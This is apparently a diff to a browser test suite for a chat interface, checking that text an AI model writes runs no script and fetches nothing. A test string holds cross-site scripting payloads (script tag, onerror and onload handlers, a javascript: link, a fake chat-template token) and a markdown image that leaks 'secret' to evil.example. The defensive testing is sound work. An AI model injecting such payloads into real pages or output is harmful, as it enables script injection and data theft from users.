@@ -34,7 +34,7 @@ uvicorn = pytest.importorskip("uvicorn")
 CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
 pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium on this machine")
 
-LONG = "从前有一座山，山上有一座庙。" * 12
+LONG = "从前有一座山，山上有一座庙。" * 40
 HOSTILE = """<script>window.hit = 1</script><img src=x onerror="window.hit = 2">
 [click](javascript:window.hit=3) ![steal](https://evil.example/?q=secret)
 <svg onload="window.hit=4"></svg> <|user|> **bold** and `code <b>` and $a<b$, \\(x^2\\)
@@ -349,7 +349,7 @@ def test_a_reload_in_mid_answer_finds_the_answer_again(playing: Tab) -> None:
     playing.page.wait_for_timeout(400)
     assert len(playing.said()) > before  # it is followed again
     playing.wait_idle()
-    assert playing.said().strip() == LONG
+    assert playing.said().startswith(LONG)
 
 
 def test_conversations_are_listed_found_renamed_and_deleted(tab: Tab) -> None:
@@ -476,7 +476,7 @@ def test_what_a_model_writes_runs_nothing_and_fetches_nothing(playing: Tab, play
     assert playing.page.locator("#glm-chat .bot-row .prose img").count() == 0
     links = playing.page.eval_on_selector_all("#glm-chat .bot-row .prose a", "all => all.map(one => one.href)")
     assert not [link for link in links if not link.startswith("https://evil.example/")]
-    text = playing.texts()
+    text = playing.texts().replace("\u2060", "")
     for shown in ("<script>", "<|user|>", "code <b>", 'print("<b>")'):
         assert shown in text
     assert playing.page.locator("#glm-chat .katex").count() == 2
